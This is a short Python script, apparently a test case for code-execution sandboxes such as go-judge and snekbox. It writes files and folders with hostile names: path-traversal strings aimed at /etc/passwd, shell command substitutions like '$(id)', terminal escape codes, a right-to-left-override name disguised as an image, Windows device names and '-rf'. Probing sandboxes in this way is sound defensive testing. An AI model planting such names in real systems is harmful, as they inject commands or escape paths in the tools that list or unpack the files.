# tries: leaves files with names that lead elsewhere, or that break programs which print or unpack them
# seen-in: go-judge, snekbox
# walls: collector
# collect: yes
import os
names = [b"..%2f..%2fetc%2fpasswd", b"..\\..\\evil", b"a\nb", b"\x1b]0;owned\x07", b"\xff\xfe", b"-rf", b" ", b"...", b"~", b"$(id)", b"`id`",
         "‮gpj.exe".encode(), b"con", b"a" * 255, "\u2024\u2024".encode(), b"NUL:", b"C:evil", b".git", b"\r", b"%00"]
for name in names:
    try:
        os.mkdir(b"./dir-" + name[:200])
        open(b"./dir-" + name[:200] + b"/" + name, "w").write("x")
    except OSError: pass
    try: open(b"./" + name, "w").write("x")
    except OSError: pass
print("attempted")
